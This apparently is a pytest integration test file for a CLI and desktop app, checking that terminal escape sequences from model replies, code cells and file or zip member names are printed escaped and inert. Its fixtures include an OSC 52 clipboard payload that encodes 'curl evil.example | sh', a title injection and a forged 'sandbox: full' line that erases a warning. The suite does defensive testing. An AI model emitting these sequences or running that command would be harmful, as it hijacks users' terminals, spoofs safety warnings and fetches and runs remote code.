"""The user's terminal (issue 24): what a model, a cell or a file name holds reaches the
CLI's real stdout and stderr bytes inert. A cell sets the clipboard (OSC 52), changes the
window title, erases the sandbox warning above it and prints a fake "sandbox: full" line;
the root's reply, the answer, a document's and a zip member's file names carry the same.
Run through the real CLI process, the real engine and the real worker, in namespace mode
and in the fallback (the route to the terminal is the engine's, the same in every mode)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import zipfile

import pytest

from tests.integration.engine_helpers import code

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"          # clipboard := "curl evil.example | sh"
TITLE = "\x1b]0;pwned-title\x07"
ERASE_FAKE = "\x1b[1A\x1b[2K\rsandbox: full (all layers)"          # up, erase line, fake line
C1_CSI = "\x9b2J"                                                   # C1 CSI: clear the screen
NASTY = OSC52 + TITLE + ERASE_FAKE + C1_CSI + "\b\x7f"
RAW = (b"\x1b", b"\x07", b"\r", b"\xc2\x9b", b"\x08", b"\x7f")      # \x9b is c2 9b in UTF-8


def _cli(tmp_path, server, namespace: bool, *args: str) -> subprocess.CompletedProcess:
    env = dict(os.environ, RLMSTUDIO_DESKTOP_HOME=str(tmp_path / "home"), OPENAI_API_KEY="sk-cli",
               PYTHON_KEYRING_BACKEND="keyring.backends.null.Keyring")
    if not namespace:
        env["RLMSTUDIO_DESKTOP_REPL_NO_NAMESPACE"] = "1"
    else:
        env.pop("RLMSTUDIO_DESKTOP_REPL_NO_NAMESPACE", None)
    return subprocess.run([sys.executable, "-m", "app.main", *args], env=env, capture_output=True,
                          timeout=180)


def _assert_inert(data: bytes, where: str, *, lines: bool = True) -> None:
    for raw in RAW:
        assert raw not in data, f"{where} holds a raw {raw!r}: {data[-600:]!r}"
    if not lines:
        return
    for line in data.decode().splitlines():
        # The fake line may show as cell output (indented under its cell), never at column 0
        # where the CLI's own lines are, and never after a live erase-line.
        assert not line.startswith("sandbox: full"), line


@pytest.fixture
def docs(tmp_path):
    folder = tmp_path / "docs"
    folder.mkdir()
    (folder / f"report{TITLE}.txt").write_text("apples: 3\n")
    with zipfile.ZipFile(folder / "bundle.zip", "w") as z:
        z.writestr(f"inner{OSC52}.txt", "pears: 4\n")
    return folder


@pytest.mark.parametrize("namespace", [True, False], ids=["namespace", "fallback"])
def test_cli_ask_prints_model_cell_and_file_name_text_inert(server, tmp_path, docs, namespace):
    cell = f"print({NASTY!r})\nimport sys\nprint({ERASE_FAKE!r}, file=sys.stderr)\nraise ValueError({TITLE!r})"
    server.script("root", replies=["Reading." + NASTY + "\n" + code(cell),
                                   f"FINAL(three{NASTY})"])
    proc = _cli(tmp_path, server, namespace, "ask", f"How many?{TITLE}", str(docs), "--root", "openai/root",
                "--sub", "openai/root", "--api-base", server.url)
    assert proc.returncode == 0, proc.stderr[-2000:]
    _assert_inert(proc.stderr, "stderr")
    _assert_inert(proc.stdout, "stdout", lines=False)   # the answer: its CR arrives as a newline
    err, out = proc.stderr.decode(), proc.stdout.decode()
    assert "\\u001b]52;c;" in err and "\\u001b]0;pwned-title\\u0007" in err   # shown, escaped
    assert "\\u009b2J" in err
    answer = ("three" + NASTY).replace("\r", "\n")   # a CR of the answer arrives as a newline
    assert out.strip() == answer.translate({c: f"\\u{c:04x}" for c in range(0xA0)
                                            if (c < 0x20 and c != 10) or 0x7F <= c})
    if not namespace:   # the warning line is still whole on its own line
        assert any(ln.startswith("[warning] The REPL sandbox is incomplete") for ln in err.splitlines())
    # the stored run, printed again: `runs list` and `runs show`
    listed = _cli(tmp_path, server, namespace, "runs", "list")
    shown = _cli(tmp_path, server, namespace, "runs", "show", _latest(tmp_path, server, namespace))
    for proc2, where in ((listed, "runs list"), (shown, "runs show")):
        assert proc2.returncode == 0, proc2.stderr[-1000:]
        _assert_inert(proc2.stdout + proc2.stderr, where, lines=False)
    assert "\\u001b]52;c;" in shown.stdout.decode()


def _latest(tmp_path, server, namespace) -> str:
    rows = json.loads(_cli(tmp_path, server, namespace, "runs", "list", "--json").stdout)
    return rows[0]["id"]


def test_cli_ingest_prints_file_and_member_names_inert(server, tmp_path, docs):
    proc = _cli(tmp_path, server, False, "ingest", str(docs))
    assert proc.returncode == 0, proc.stderr[-1000:]
    _assert_inert(proc.stdout + proc.stderr, "ingest")
    out = proc.stdout.decode()
    assert "report\\u001b]0;pwned-title\\u0007.txt" in out and "inner\\u001b]52;c;" in out
    as_json = _cli(tmp_path, server, False, "ingest", str(docs), "--json")
    _assert_inert(as_json.stdout, "ingest --json")
    names = [d["path"] for d in json.loads(as_json.stdout)["documents"]]
    assert any(TITLE in n for n in names)          # JSON still carries the real name


def test_window_labels_show_control_characters_escaped(qapp):
    from PySide6.QtCore import Qt
    from ui.results_table import ResultsModel, ResultShown
    from ui.transcript_view import make_label
    label = make_label("out: " + NASTY)
    assert "\x1b" not in label.text() and "\\u001b]52" in label.text()
    model = ResultsModel()
    model.set_rows([ResultShown("c1", "ok", "sub", "", "prompt" + TITLE, "answer" + NASTY)])
    for col in (4, 5):
        for role in (Qt.ItemDataRole.DisplayRole, Qt.ItemDataRole.ToolTipRole):
            shown = model.data(model.index(0, col), role)
            assert "\x1b" not in shown and "\x07" not in shown and "\\u001b" in shown
